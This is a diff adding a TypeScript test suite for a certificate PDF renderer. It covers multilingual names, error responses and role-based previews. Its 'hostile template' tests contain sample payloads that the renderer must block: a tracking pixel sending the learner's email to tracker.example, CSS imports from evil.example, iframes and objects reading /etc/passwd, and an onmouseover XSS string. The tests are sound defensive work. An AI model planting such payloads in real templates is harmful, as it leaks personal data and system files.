@@ -1,0 +1,179 @@
+import { PdfRenderer } from '../../src/rendering/pdf-renderer';
+import { certificateHtml } from '../../src/rendering/certificate-html';
+import { certificateVariables, sampleFacts } from '../../src/rendering/render-context';
+import { generationOutcome, pdfText } from '../support/certificates';
+import { expectProblem, Scenario } from '../support/scenario';
+import { TestApp, token } from '../support/test-app';
+
+const LANGUAGES = ['en', 'es', 'fr', 'de', 'pt', 'it'];
+
+describe('Certificate PDFs', () => {
+  let app: TestApp;
+  let given: Scenario;
+  beforeAll(async () => {
+    app = await TestApp.start();
+    given = await Scenario.of(app);
+    await given.enableFeature();
+  });
+  afterAll(() => app.close());
+
+  it.each(LANGUAGES)(
+    'classic-%s shows the learner and the training, in any script',
+    async (language) => {
+      const trainingId = `classic-${language}-course`;
+      const learnerId = `learner-${language}`;
+      const name = 'Ελένη Ñúñez-Иванова 王小明';
+      await given.createTraining(trainingId);
+      await given.assign(trainingId, `classic-${language}`, 1);
+      await given.ok(
+        app.request('PUT', `/api/v1/learners/${learnerId}`, {
+          token: given.admin,
+          body: { name, email: 'e@example.com' },
+        }),
+      );
+      await given.complete(trainingId, learnerId);
+      const requested = await given.generate(trainingId, learnerId);
+      const outcome = await generationOutcome(app, requested.body.certificateId);
+      expect(outcome.type).toBe('CertificateGenerated');
+      const pdf = await app.app.inject({
+        method: 'GET',
+        url: `/api/v1/me/learning-records/${trainingId}/certificate`,
+        headers: {
+          authorization: `Bearer ${await given.learner(learnerId)}`,
+          'x-consistent-with': String(outcome.position),
+        },
+      });
+      const text = pdfText(pdf.rawPayload).replace(/\s+/g, ' ');
+      expect(text).toContain(name);
+      expect(text).toContain(`Training ${trainingId}`);
+      expect(text).toContain(requested.body.certificateId);
+    },
+    60_000,
+  );
+
+  it('answers 409 not-ready while generating and 404 when there is none', async () => {
+    await given.createTraining('slow');
+    await given.assign('slow', 'classic-en', 1);
+    await given.complete('slow', 'sam');
+    const learner = await given.learner('sam');
+    const none = await app.request('GET', '/api/v1/me/learning-records/slow/certificate', {
+      token: learner,
+      headers: { 'x-consistent-with': String(await app.head()) },
+    });
+    expectProblem(none, 404, 'not-found');
+    const requested = await given.generate('slow', 'sam');
+    const early = await app.request('GET', '/api/v1/me/learning-records/slow/certificate', {
+      token: learner,
+      headers: { 'x-consistent-with': requested.body.position },
+    });
+    // The reactor may already have finished; if not, the answer says so.
+    if (early.status !== 200) expectProblem(early, 409, 'not-ready');
+    await generationOutcome(app, requested.body.certificateId);
+  }, 60_000);
+
+  it('renders a preview of any version with sample data, for the roles that choose templates', async () => {
+    const templateId = await given.createAuthorTemplate('Preview me');
+    for (const role of ['admin', 'group-admin', 'author'] as const) {
+      const preview = await app.app.inject({
+        method: 'GET',
+        url: `/api/v1/certificate-templates/${templateId}/versions/1/preview`,
+        headers: { authorization: `Bearer ${await token('acme', role)}` },
+      });
+      expect(preview.statusCode).toBe(200);
+      expect(preview.headers['content-type']).toBe('application/pdf');
+      expect(pdfText(preview.rawPayload)).toContain('Zoë Ångström-Núñez');
+    }
+    const classic = await app.app.inject({
+      method: 'GET',
+      url: '/api/v1/certificate-templates/classic-fr/versions/1/preview',
+      headers: { authorization: `Bearer ${given.operator}` },
+    });
+    expect(pdfText(classic.rawPayload)).toContain('Workplace Safety Essentials');
+    expectProblem(
+      await app.request('GET', `/api/v1/certificate-templates/${templateId}/versions/9/preview`, {
+        token: given.admin,
+      }),
+      404,
+      'version-not-found',
+    );
+    expectProblem(
+      await app.request('GET', `/api/v1/certificate-templates/${templateId}/versions/1/preview`, {
+        token: await token('acme', 'learner'),
+      }),
+      403,
+      'forbidden',
+    );
+    expectProblem(
+      await app.request('GET', `/api/v1/certificate-templates/${templateId}/versions/1/preview`, {
+        token: await token('globex', 'admin'),
+      }),
+      404,
+      'version-not-found',
+    );
+  }, 60_000);
+});
+
+describe('A hostile template', () => {
+  const hostile = {
+    html: `<h1 id="name">{{learner.name}}</h1>
+<p id="status">SCRIPT DID NOT RUN</p>
+<script>document.getElementById('status').textContent = 'SCRIPT RAN';</script>
+<img src="https://tracker.example/pixel.png?who={{learner.email}}">
+<link rel="stylesheet" href="https://evil.example/style.css">
+<iframe src="file:///etc/passwd" width="800" height="300"></iframe>
+<img src="file:///etc/passwd">
+<object data="file:///etc/passwd"></object>
+<p style="background: url('http://127.0.0.1:9/beacon')">{{{learner.name}}}</p>`,
+    css: "@import url('https://evil.example/font.css'); body { font-family: serif; }",
+    page: { size: 'A4', orientation: 'portrait' } as const,
+  };
+
+  it('renders without running a script, without any request leaving the page, without file contents', async () => {
+    const renderer = new PdfRenderer({
+      chromiumPath: '/usr/bin/chromium',
+      poolSize: 1,
+      timeoutMs: 30_000,
+      maxHtmlBytes: 1e6,
+      maxPdfBytes: 1e7,
+    });
+    try {
+      const facts = {
+        ...sampleFacts(new Date()),
+        learner: { name: '<b onmouseover=alert(1)>Eve</b> & co', email: 'eve@example.com' },
+      };
+      const pdf = await renderer.render(
+        certificateHtml(hostile, certificateVariables(facts, 'en')),
+        hostile.page,
+      );
+      const text = pdfText(pdf);
+      expect(text).toContain('SCRIPT DID NOT RUN');
+      expect(text).not.toContain('SCRIPT RAN');
+      expect(text).not.toMatch(/root:.*:0:0:/);
+      // Learner data is escaped even in a triple-stash: the markup shows as text.
+      expect(text).toContain('<b onmouseover=alert(1)>Eve</b> & co');
+      expect(renderer.attemptedRequests.filter((url) => !url.startsWith('data:'))).toEqual([]);
+    } finally {
+      await renderer.close();
+    }
+  }, 60_000);
+
+  it("is stopped by the renderer too, should the document's own policy be missing", async () => {
+    const renderer = new PdfRenderer({
+      chromiumPath: '/usr/bin/chromium',
+      poolSize: 1,
+      timeoutMs: 30_000,
+      maxHtmlBytes: 1e6,
+      maxPdfBytes: 1e7,
+    });
+    try {
+      const bare =
+        '<img src="https://tracker.example/pixel.png"><iframe src="file:///etc/passwd"></iframe><p>bare</p>';
+      const text = pdfText(await renderer.render(bare, hostile.page));
+      expect(text).toContain('bare');
+      expect(text).not.toMatch(/root:.*:0:0:/);
+      expect(renderer.attemptedRequests).toContain('https://tracker.example/pixel.png');
+    } finally {
+      await renderer.close();
+    }
+  }, 60_000);
+});
